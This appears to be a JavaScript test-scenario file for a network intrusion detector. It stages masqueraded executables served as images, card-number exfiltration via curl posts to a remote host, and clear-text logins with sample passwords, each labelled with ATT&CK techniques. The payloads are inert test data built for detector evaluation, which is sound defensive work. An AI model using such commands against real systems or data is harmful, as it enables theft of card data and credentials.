import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { png } from '../../contents.mjs';
import { run, sleep } from '../../processes.mjs';
import { Authority } from '../../servers/authority.mjs';
import { serveFtp } from '../../servers/files.mjs';
import { serveMail } from '../../servers/mail.mjs';
import { serveWeb } from '../../servers/nginx.mjs';
import { page, scene } from './scene.mjs';

/** A program's head: DOS stub, PE signature, and noise behind it that runs nowhere. */
function program(rng, bytes) {
  const head = Buffer.alloc(256);
  head.write('MZ', 0);
  head.writeUInt32LE(0x80, 0x3c);
  head.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e);
  head.write('PE\0\0', 0x80);
  head.writeUInt16LE(0x8664, 0x84);
  return Buffer.concat([head, rng.bytes(bytes)]);
}

export const lyingMime = scene({
  name: 'lying-mime',
  title: 'Programs fetched as pictures and as text, beside a real picture and a program that says what it is',
  commands: ['nginx', 'curl'],
  prepare: async ({ network, rng, runDir, remote }) => {
    const victim = await network.addHost('desk-1');
    const desk = await network.addHost('desk-2');
    const far = await remote('far');
    await writeFile(join(runDir, 'logo.png'), program(rng, rng.int(4_000, 20_000)));
    await writeFile(join(runDir, 'notes.txt'), program(rng, rng.int(4_000, 20_000)));
    await writeFile(join(runDir, 'photo.png'), png(rng, 60, 60));
    await writeFile(join(runDir, 'setup.exe'), program(rng, rng.int(4_000, 20_000)));
    await serveWeb(far, {
      tcp: [80],
      sites: [`server { listen 80; server_name _; location / { root ${runDir}; } }`],
    });
    return { victim, desk, far };
  },
  play: async ({ labels, rng }, { victim, desk, far }) => {
    const bad = (path) => ({
      ...page(far.elsewhere, 80, path),
      what: `fetches a program as ${path}`,
      technique: 'lying-mime',
      attack: 'T1036.008',
      malicious: true,
      expect: { notice: { note: 'lying-mime', sub: 'declared', src: far.elsewhere, dst: victim.address } },
    });
    await labels.act(desk, { ...page(far.elsewhere, 80, '/photo.png'), what: 'fetches a picture' });
    await labels.act(victim, bad('/logo.png'));
    await sleep(rng.gap(80));
    await labels.act(victim, bad('/notes.txt'));
    await labels.act(desk, {
      ...page(far.elsewhere, 80, '/setup.exe'),
      what: 'fetches a program that says what it is',
    });
  },
});

/** 16 digits that pass Luhn's check, under a BIN that the networks publish for tests. */
function testCard(rng) {
  const body = `${rng.pick(['411111', '555555', '222300', '400000'])}${Array.from({ length: 9 }, () => rng.int(0, 9)).join('')}`;
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    const digit = Number(body[i]) * (i % 2 === 0 ? 2 : 1);
    sum += digit > 9 ? digit - 9 : digit;
  }
  return `${body}${(10 - (sum % 10)) % 10}`;
}

const spaced = (card) => card.replace(/(\d{4})(?=\d)/g, '$1 ');

export const cardNumbers = scene({
  name: 'card-numbers',
  title:
    'Card numbers (drawn under test BINs, so that they pass Luhn’s check) in a form, a CSV and a mail-like text, beside digits that are none',
  commands: ['nginx', 'curl'],
  prepare: async ({ network, remote }) => {
    const shop = await network.addHost('desk-1');
    const desk = await network.addHost('desk-2');
    const far = await remote('far');
    await serveWeb(far, {
      tcp: [80],
      sites: [
        'server { listen 80; server_name _; client_max_body_size 1m; location / { return 200 "thanks\\n"; } }',
      ],
    });
    return { shop, desk, far };
  },
  play: async ({ labels, rng, runDir }, { shop, desk, far }) => {
    const cards = Array.from({ length: rng.int(4, 9) }, () => testCard(rng));
    const csv = join(runDir, 'orders.csv');
    await writeFile(
      csv,
      `order,card number,expiry\n${cards.map((card, i) => `${1000 + i},${i % 2 ? spaced(card) : card},${rng.int(1, 12)}/29`).join('\n')}\n`,
    );
    const bad = (args, what) => ({
      ...page(far.elsewhere, 80, '/orders', args),
      what,
      technique: 'card-numbers',
      attack: 'T1005',
      malicious: true,
      details: { cards: cards.map((card) => `${card.slice(0, 6)}******${card.slice(-4)}`) },
      expect: { notice: { note: 'card-numbers', src: shop.address, dst: far.elsewhere } },
    });
    // Long numbers that are no cards: a serial number that fails Luhn's check, a timestamp, a run of digits.
    await labels.act(desk, {
      ...page(far.elsewhere, 80, '/parts', [
        '--data',
        `serial=4111111111111112&at=${Date.now()}000&log=${'8'.repeat(40)}`,
      ]),
      what: 'sends long numbers that are no cards',
    });
    await labels.act(shop, bad(['--data-binary', `@${csv}`], 'sends a list of card numbers'));
    await sleep(rng.gap(80));
    await labels.act(
      shop,
      bad(
        ['--data-urlencode', `card=${spaced(cards[0])}`, '--data', 'cvc=000'],
        'sends a card number in a form',
      ),
    );
  },
});

const PEOPLE = [
  { name: 'stores', password: 'Quiet-ladder-58' },
  { name: 'ledger', password: 'Paper-window-23' },
];

export const clearText = scene({
  name: 'clear-text',
  title:
    'Logins that anybody on the way can read: FTP, HTTP Basic and form, POP3, IMAP, SMTP, beside the same over TLS',
  commands: ['nginx', 'curl', 'vsftpd', 'dovecot', 'dovecot-pop3d', 'aiosmtpd', 'openssl'],
  users: PEOPLE,
  prepare: async ({ network, runDir }) => {
    const server = await network.addHost('server', { kind: 'server' });
    const desk = await network.addHost('desk-1');
    const careful = await network.addHost('desk-2');
    const authority = await new Authority(join(runDir, 'ca')).open();
    const issued = await authority.issue([server.fqdn], { key: 'rsa' });
    await serveMail(server, issued);
    await serveFtp(server, { passive: [50_000, 50_040] });
    const { stdout } = await run(['openssl', 'passwd', '-apr1', '-stdin'], { input: PEOPLE[0].password });
    const htpasswd = join(server.dir, 'htpasswd');
    await writeFile(htpasswd, `${PEOPLE[0].name}:${stdout.trim()}\n`);
    const places = `location /login { return 302 /; } location /in/ { auth_basic "in"; auth_basic_user_file ${htpasswd}; return 200 "in"; } location / { return 200 "works"; }`;
    await serveWeb(server, {
      tcp: [80, 443],
      sites: [
        `server { listen 80; server_name _; ${places} }`,
        `server { listen 443 ssl; server_name _; ssl_certificate ${issued.chain}; ssl_certificate_key ${issued.key}; ${places} }`,
      ],
    });
    return { server, desk, careful, authority };
  },
  play: async ({ labels, rng }, { server, desk, careful, authority }) => {
    const { name, password } = rng.pick(PEOPLE.slice(0, 1));
    const bad = (sub, port, argv) => ({
      what: `logs in over ${sub} in clear text`,
      technique: 'clear-text-credentials',
      attack: 'T1040',
      malicious: false,
      argv: ['curl', '-s', '-m', '10', '-o', '/dev/null', ...argv],
      flows: [{ proto: 'tcp', dst: server.address, dst_port: port, app: sub.split('-')[0] }],
      details: { credential: { kind: sub, user: name } },
      expect: { notice: { note: 'clear-text-credentials', sub, src: desk.address, dst: server.address } },
    });
    const login = ['-u', `${name}:${password}`];
    const at = server.address;
    const deeds = [
      [desk, bad('ftp-password', 21, [...login, `ftp://${at}/`])],
      [desk, { ...bad('http-basic', 80, [...login, `http://${at}/in/`]) }],
      [
        desk,
        bad('http-form', 80, [
          '--data-urlencode',
          `user=${name}`,
          '--data-urlencode',
          `password=${password}`,
          `http://${at}/login`,
        ]),
      ],
      [desk, bad('imap-plain', 143, [...login, '--login-options', 'AUTH=PLAIN', `imap://${at}/`])],
      [desk, bad('pop3-plain', 110, [...login, '--login-options', 'AUTH=PLAIN', `pop3://${at}/`])],
      [
        careful,
        {
          what: 'logs in over HTTPS',
          technique: 'tls',
          argv: [
            'curl',
            '-s',
            '-m',
            '10',
            '-o',
            '/dev/null',
            '--cacert',
            authority.certificate,
            '--resolve',
            `${server.fqdn}:443:${at}`,
            ...login,
            `https://${server.fqdn}/in/`,
          ],
          flows: [{ proto: 'tcp', dst: at, dst_port: 443, app: 'ssl' }],
        },
      ],
    ];
    for (const [host, deed] of rng.shuffle(deeds)) {
      await labels.act(host, deed);
      await sleep(rng.gap(80));
    }
  },
});
